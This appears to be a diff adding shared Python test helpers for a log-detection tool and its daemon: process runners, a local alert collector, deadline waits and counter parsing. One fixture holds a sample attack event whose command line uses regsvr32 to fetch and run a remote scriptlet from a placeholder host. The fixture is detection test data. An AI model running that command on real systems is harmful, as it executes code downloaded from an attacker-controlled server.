@@ -1,0 +1,291 @@
+"""What the end-to-end tests share: the real programs, an upstream to send alerts to, deadlines.
+
+Python standard library only. Every wait has a deadline; nothing sleeps for a fixed time to be
+"surely done". Ports are chosen by the system. A test file that could run nothing exits with 77,
+which meson counts as skipped.
+"""
+import gzip
+import json
+import os
+import re
+import select
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import unittest
+
+SOURCE = os.environ["SQ_SOURCE_DIR"]
+BUILD = os.environ["SQ_BUILD_DIR"]
+SQUIBLY = os.path.join(BUILD, "cli", "squibly")
+SQUIBLYD = os.path.join(BUILD, "daemon", "squiblyd")
+DEMO = os.path.join(SOURCE, "tests", "data", "demo")
+LONG = bool(os.environ.get("SQUIBLY_LONG"))
+# Sanitizers make everything slower; deadlines are for hangs, not for speed.
+DEADLINE = 60
+
+ATTACK = ('{"EventID":4688,"Channel":"Security","Hostname":"ws-%d.corp.example",'
+          '"NewProcessName":"C:\\\\Windows\\\\System32\\\\regsvr32.exe",'
+          '"ParentProcessName":"C:\\\\Windows\\\\System32\\\\cmd.exe",'
+          '"CommandLine":"regsvr32 /s /n /u /i:http://files.example.net/%d.sct scrobj.dll"}')
+ORDINARY = ('{"EventID":4688,"Channel":"Security","Hostname":"ws-%d.corp.example",'
+            '"NewProcessName":"C:\\\\Windows\\\\System32\\\\notepad.exe",'
+            '"ParentProcessName":"C:\\\\Windows\\\\explorer.exe","CommandLine":"notepad.exe %d.txt"}')
+
+
+def attack(n):
+    return (ATTACK % (n, n)).encode() + b"\n"
+
+
+def ordinary(n):
+    return (ORDINARY % (n, n)).encode() + b"\n"
+
+
+def shared():
+    """The folder of real events beside the source tree, or a skip."""
+    path = os.environ.get("SQUIBLY_SHARED") or os.path.join(SOURCE, "..", "shared")
+    if not os.path.isdir(os.path.join(path, "corpus")):
+        raise unittest.SkipTest("no folder of shared events (SQUIBLY_SHARED) on this machine")
+    return os.path.abspath(path)
+
+
+def lines_of(path):
+    opener = gzip.open if path.endswith(".gz") else open
+    with opener(path, "rb") as f:
+        return f.read().splitlines()
+
+
+def eventually(what, condition, deadline=DEADLINE):
+    """Wait until `condition()` is true and give its value; fail with `what` at the deadline."""
+    end = time.monotonic() + deadline
+    while True:
+        value = condition()
+        if value:
+            return value
+        if time.monotonic() > end:
+            raise AssertionError(f"not within {deadline} s: {what() if callable(what) else what}")
+        time.sleep(0.01)
+
+
+def squibly(*args, stdin=None, status=0):
+    """Run the tool. Gives (stdout, stderr) as bytes and text; any other exit status fails."""
+    run = subprocess.run([SQUIBLY, *args], input=stdin, capture_output=True, timeout=600,
+                         stdin=None if stdin is not None else subprocess.DEVNULL)
+    err = run.stderr.decode("utf-8", "replace")
+    if run.returncode != status:
+        raise AssertionError(f"squibly {args}: status {run.returncode}, not {status}\n{err}\n"
+                             f"{run.stdout.decode('utf-8', 'replace')[:2000]}")
+    return run.stdout, err
+
+
+def scan(*args, stdin=None):
+    """Alerts of `squibly scan` as objects, and its summary as a dict of numbers."""
+    out, err = squibly("scan", "--format", "json", *args, stdin=stdin)
+    alerts = [json.loads(line) for line in out.splitlines()]
+    numbers = {}
+    for value, name in re.findall(r"(\d+) (events|alerts|malformed|oversized)", err):
+        numbers[name] = int(value)
+    return alerts, numbers
+
+
+class Upstream:
+    """Takes lines over TCP. `stop()` closes it, `start()` opens the same port again."""
+
+    def __init__(self, port=0, stalled=False):
+        self.lines, self.port, self.stalled = [], port, stalled
+        self.socket, self.connections, self.thread = None, [], None
+        self.start()
+
+    def start(self):
+        self.socket = socket.create_server(("127.0.0.1", self.port))
+        self.port = self.socket.getsockname()[1]
+        self.running = True
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self):
+        rest = {}
+        while self.running:
+            watch = [self.socket] + ([] if self.stalled else self.connections)
+            for s in select.select(watch, [], [], 0.02)[0]:
+                if s is self.socket:
+                    c = s.accept()[0]
+                    self.connections.append(c)
+                    rest[c] = b""
+                    continue
+                try:
+                    data = s.recv(1 << 20)
+                except OSError:
+                    data = b""
+                if not data:
+                    self.connections.remove(s)
+                    s.close()
+                    continue
+                *whole, rest[s] = (rest[s] + data).split(b"\n")
+                self.lines += whole
+
+    def stop(self):
+        self.running = False
+        self.thread.join()
+        for c in self.connections:
+            c.close()
+        self.connections = []
+        self.socket.close()
+
+    def alerts(self):
+        return [json.loads(line) for line in list(self.lines)]
+
+
+class Daemon:
+    """squiblyd with a configuration in a folder of its own, listening on ports of its own."""
+
+    def __init__(self, config="", inputs=True, args=(), upstream=None, env=None, folder=None):
+        self.folder = folder or tempfile.mkdtemp(prefix="squiblyd-e2e-")
+        self.config = os.path.join(self.folder, "squiblyd.yaml")
+        text = ""
+        if inputs:
+            text += ("inputs:\n  - type: tcp\n    listen: 127.0.0.1:0\n"
+                     "  - type: udp\n    listen: 127.0.0.1:0\n")
+        if upstream is not None:
+            text += f"outputs:\n  - type: tcp\n    address: 127.0.0.1:{upstream.port}\n"
+        with open(self.config, "w", encoding="utf-8") as f:
+            f.write(text + config)
+        self.args = [SQUIBLYD, *(["-c", self.config] if text or config else []), *args]
+        self.env = dict(os.environ, XDG_CACHE_HOME=os.path.join(self.folder, "cache"), **(env or {}))
+        self.out, self.err = [], []
+        self.process = subprocess.Popen(self.args, stdin=subprocess.DEVNULL, env=self.env,
+                                        stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        self.readers = [threading.Thread(target=self._read, args=pair, daemon=True)
+                        for pair in ((self.process.stdout, self.out), (self.process.stderr, self.err))]
+        for reader in self.readers:
+            reader.start()
+
+    @staticmethod
+    def _read(pipe, to):
+        for line in pipe:
+            to.append(line.rstrip(b"\n").decode("utf-8", "replace"))
+
+    def said(self, pattern, after=0):
+        """The first match in standard error from line `after` on, or None."""
+        for line in self.err[after:]:
+            found = re.search(pattern, line)
+            if found:
+                return found
+        return None
+
+    def wait_said(self, pattern, after=0, deadline=DEADLINE):
+        def look():
+            found = self.said(pattern, after)
+            if not found and self.process.poll() is not None:
+                self.readers[1].join()
+                found = self.said(pattern, after)
+                if not found:
+                    raise AssertionError(f"squiblyd ended with {self.process.returncode} before it "
+                                         f"said {pattern!r}:\n" + "\n".join(self.err))
+            return found
+        return eventually(lambda: f"{pattern!r} in\n" + "\n".join(self.err), look, deadline)
+
+    def port(self, kind="tcp"):
+        return int(self.wait_said(rf"listening on.*\b{kind} \S*:(\d+)").group(1))
+
+    def connect(self):
+        return socket.create_connection(("127.0.0.1", self.port("tcp")), timeout=DEADLINE)
+
+    def send(self, data):
+        with self.connect() as s:
+            s.sendall(data)
+            s.shutdown(socket.SHUT_WR)
+
+    def counters(self):
+        """The counters as SIGUSR1 prints them now."""
+        before = len(self.err)
+        self.process.send_signal(signal.SIGUSR1)
+        self.wait_said(r"received \d+ = ", before)
+        eventually("the table of counters", lambda: self.said(r"^  bytes_in |^  received ", before))
+        return self._parse(before)
+
+    def _parse(self, after):
+        numbers = {}
+        for line in self.err[after:]:
+            row = re.match(r"\s*([a-z_]+)\s+(\d+)(\s|$)", line)
+            if row:
+                numbers.setdefault(row.group(1), int(row.group(2)))
+            if " = alerted " in line:
+                for name, value in re.findall(r"(received|alerted|clean|malformed|oversized|dropped) "
+                                              r"(\d+)", line):
+                    numbers[name] = int(value)
+        return numbers
+
+    def wait_received(self, n, deadline=DEADLINE):
+        """Wait until `n` records are taken in and accounted for."""
+        last = {}
+
+        def look():
+            last.clear()
+            last.update(self.counters())
+            done = sum(last.get(k, 0) for k in ("alerted", "clean", "malformed", "oversized", "dropped"))
+            return last.get("received", 0) >= n and done == last["received"] and dict(last)
+        return eventually(lambda: f"{n} records received: {last}", look, deadline)
+
+    def hup(self):
+        before = len(self.err)
+        self.process.send_signal(signal.SIGHUP)
+        return before
+
+    def stop(self, how=signal.SIGTERM, deadline=DEADLINE):
+        """Ask it to stop; gives the exit status, and the counters it printed on the way out."""
+        before = len(self.err)
+        if self.process.poll() is None:
+            self.process.send_signal(how)
+        status = self.process.wait(deadline)
+        for reader in self.readers:
+            reader.join()
+        self.process.stdout.close()
+        self.process.stderr.close()
+        return status, self._parse(before)
+
+    def kill(self):
+        if self.process.poll() is None:
+            self.process.kill()
+            self.process.wait()
+
+
+class Case(unittest.TestCase):
+    """Ends what a test started, also when it fails."""
+
+    maxDiff = None
+
+    def daemon(self, *args, **named):
+        d = Daemon(*args, **named)
+        self.addCleanup(d.kill)
+        return d
+
+    def upstream(self, *args, **named):
+        u = Upstream(*args, **named)
+        self.addCleanup(lambda: u.running and u.stop())
+        return u
+
+    def assert_stops(self, daemon, received=None):
+        """It ends with status 0, and what it received is accounted for to the last record."""
+        status, c = daemon.stop()
+        self.assertEqual(status, 0, "\n".join(daemon.err))
+        self.assertIn("received", c, "\n".join(daemon.err))
+        self.assertEqual(c["received"], c["alerted"] + c["clean"] + c["malformed"] + c["oversized"]
+                         + c["dropped"], c)
+        self.assertNotIn("MISCOUNTED", "\n".join(daemon.err))
+        if received is not None:
+            self.assertEqual(c["received"], received, c)
+        return c
+
+
+def main():
+    run = unittest.main(module="__main__", exit=False, verbosity=2).result
+    for _, why in run.skipped:
+        print("skipped:", why)
+    if not run.wasSuccessful():
+        sys.exit(1)
+    if run.testsRun and len(run.skipped) == run.testsRun:
+        sys.exit(77)
